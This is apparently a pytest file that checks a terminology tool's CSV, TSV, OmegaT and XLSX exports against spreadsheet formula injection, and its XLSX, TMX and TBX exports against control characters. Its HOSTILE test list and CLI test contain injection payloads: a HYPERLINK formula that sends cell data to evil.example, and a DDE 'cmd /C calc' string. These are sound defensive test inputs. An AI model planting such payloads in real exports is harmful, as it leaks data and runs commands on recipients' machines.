"""Spreadsheet formula injection (OWASP "CSV injection") and XML-illegal characters in the exports.

A term or segment starting with = + - @ tab or CR is written with a leading apostrophe in
CSV/TSV/OmegaT and as a text cell in XLSX (never a live formula); our readers take the
apostrophe off, so a term that really starts with a hyphen, a sign or an apostrophe comes
back exactly. Control characters (\\x01) are dropped from XLSX, TMX and TBX instead of
stopping the writer.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import openpyxl
import pytest

from align.export import FORMULA_START, escape_cell, read_alignment, render, unescape_cell, xml_safe
from align.model import Alignment, Bead, Segment
from glossary.export import read_glossary
from glossary.export import render as render_glossary
from glossary.model import Entry, Equivalent, Glossary
from termalign.termbase import open_termbase
from termalign.web.exports import render_terms

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=already quoted", "'", "''", "-", "- hyphen first", "+/-", "normal term", "＝SUM(A1)", "＋1"]


def _formula_free(cells: list[str]) -> bool:
    return not any(c.startswith(FORMULA_START) for c in cells)


def test_escape_is_reversible_and_leaves_plain_text_alone():
    for s in HOSTILE + ["", "a'b", "核裁军", "'abc"]:
        assert unescape_cell(escape_cell(s)) == s
        assert not escape_cell(s).startswith(FORMULA_START)
    assert escape_cell("核裁军") == "核裁军" and escape_cell("a=b") == "a=b" and escape_cell(0.5) == 0.5
    assert escape_cell("=1") == "'=1" and escape_cell("'x") == "''x"
    assert unescape_cell("'s-Hertogenbosch") == "'s-Hertogenbosch"  # a foreign apostrophe stays


@pytest.fixture()
def hostile_glossary() -> Glossary:
    return Glossary([Entry(f"术语{i}{s}" if i % 2 else s, [Equivalent(s, 0.8, 2), Equivalent("=alt", 0.3)], 0.5,
                           source_frequency=2, source_example=s, target_example=s, source_ids=[i], target_ids=[i])
                     for i, s in enumerate(HOSTILE)])


def test_glossary_csv_has_no_formula_cell_and_round_trips(hostile_glossary, tmp_path):
    data = render_glossary(hostile_glossary, "csv")
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert _formula_free(cells)
    p = tmp_path / "g.csv"
    p.write_bytes(data)
    back = read_glossary(p)
    assert [e.source_term for e in back] == [e.source_term for e in hostile_glossary.entries]
    assert [[q.term for q in e.equivalents] for e in back] == [[q.term for q in e.equivalents]
                                                               for e in hostile_glossary.entries]
    assert [(e.source_example, e.target_example) for e in back] == [(e.source_example, e.target_example)
                                                                     for e in hostile_glossary.entries]


def test_glossary_xlsx_has_only_text_cells_and_round_trips(hostile_glossary, tmp_path):
    p = tmp_path / "g.xlsx"
    p.write_bytes(render_glossary(hostile_glossary, "xlsx"))
    sheet = openpyxl.load_workbook(p).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A2"].value == HOSTILE[0] and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    back = read_glossary(p)
    assert [(e.source_term, e.target_term, e.target_example) for e in back] == \
        [(e.source_term, e.target_term, e.target_example) for e in hostile_glossary.entries]


def test_omegat_glossary_is_escaped_and_round_trips(hostile_glossary, tmp_path):
    data = render_glossary(hostile_glossary, "omegat").decode("utf-8")
    assert _formula_free([c for line in data.splitlines() for c in line.split("\t")])
    p = tmp_path / "g.txt"
    p.write_text(data, encoding="utf-8")
    back = {e.source_term: [q.term for q in e.equivalents] for e in read_glossary(p)}
    norm = lambda s: " ".join(s.split())  # noqa: E731 - OmegaT fields hold no tabs or line breaks
    assert back == {norm(e.source_term): [norm(q.term) for q in e.equivalents] for e in hostile_glossary.entries}


def test_alignment_csv_and_tsv_are_escaped_and_read_back_exactly(tmp_path):
    texts = [s.strip() for s in HOSTILE if s.strip()]  # a segment's text is stripped when read
    al = Alignment([Segment(s) for s in texts], [Segment(f"{s} 译") for s in texts],
                   [Bead((i,), (i,), 0.9) for i in range(len(texts))], "zh", "en")
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        data = render(al, fmt)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
        assert _formula_free([c for row in rows for c in row])
        p = tmp_path / f"a.{fmt}"
        p.write_bytes(data)
        back = read_alignment(p)
        assert [s.text for s in back.src] == texts and [s.text for s in back.tgt] == [f"{s} 译" for s in texts]


def test_control_characters_are_dropped_not_fatal(tmp_path):
    g = Glossary([Entry("核\x01裁军", [Equivalent("nuclear\x0b disarmament\x00", 0.9)], 0.9,
                        source_example="例\x1f句", target_example="an\x07 example\ufffe")])
    for fmt, ext in (("xlsx", "xlsx"), ("tmx", "tmx"), ("tbx", "tbx"), ("tbx3", "tbx")):
        p = tmp_path / f"g.{fmt}.{ext}"
        p.write_bytes(render_glossary(g, fmt))
        e = read_glossary(p)[0]
        assert (e.source_term, e.target_term) == ("核裁军", "nuclear disarmament"), fmt
    al = Alignment([Segment("a\x01b")], [Segment("c\x02d")], [Bead((0,), (0,), 1.0)], "zh", "en")
    assert b"<seg>ab</seg>" in render(al, "tmx") and b"<seg>cd</seg>" in render(al, "tmx")
    assert xml_safe("a\x00\x08\t\n\r\ud800\uffff b") == "a\t\n\r b"


def test_web_download_of_terms_with_controls_and_formulas(tmp_path):
    """What `/api/glossary/export?format=xlsx` renders: once a 500 on a \\x01 in a term."""
    rows = [{"source_term": "=1+2\x01", "target_term": "@cmd", "score": 0.9, "frequency": 3,
             "source_example": "例", "target_example": "-x"}]
    p = tmp_path / "web.xlsx"
    p.write_bytes(render_terms(rows, "xlsx"))
    sheet = openpyxl.load_workbook(p).active
    assert [c.value for c in sheet[2]][:2] == ["=1+2", "@cmd"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    csv_cells = [c for row in csv.reader(io.StringIO(render_terms(rows, "csv").decode("utf-8-sig"))) for c in row]
    assert _formula_free(csv_cells) and "'=1+2\x01" in csv_cells


def test_corpus_export_cli_csv_and_xlsx(tmp_path, cli_env):
    """`termalign corpus export` (its own CSV writer, and XLSX through the glossary writer), then
    `termalign lookup` on the CSV finds the equivalent that starts with "-" exactly."""
    db = tmp_path / "tb.sqlite3"
    with open_termbase(db) as tb:
        tb.add_term('=HYPERLINK("http://evil.example","x")', "-minus first")
        tb.add_term("核\x01裁军", "'quoted")
    run = lambda *a: subprocess.run([sys.executable, "-m", "termalign", *map(str, a)],  # noqa: E731
                                    capture_output=True, text=True, env=cli_env, timeout=300)
    for name in ("g.csv", "g.xlsx"):
        r = run("corpus", "export", tmp_path / name, "--db", db, "--min-df", "0", "--langs", "zh-en")
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "g.csv").read_text(encoding="utf-8-sig"))) for c in row]
    assert _formula_free(cells)
    assert {(e.source_term, e.target_term) for e in read_glossary(tmp_path / "g.csv")} == \
        {('=HYPERLINK("http://evil.example","x")', "-minus first"), ("核\x01裁军", "'quoted")}
    sheet = openpyxl.load_workbook(tmp_path / "g.xlsx").active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert {(r[0], r[1]) for r in sheet.iter_rows(min_row=2, values_only=True)} == \
        {('=HYPERLINK("http://evil.example","x")', "-minus first"), ("核裁军", "'quoted")}
    r = run("lookup", "--json", "--glossary", tmp_path / "g.csv", "--", "-minus first")
    assert r.returncode == 0 and '"exact": true' in r.stdout, r.stderr
    assert '"source_term": "=HYPERLINK(\\"http://evil.example\\",\\"x\\")"' in r.stdout
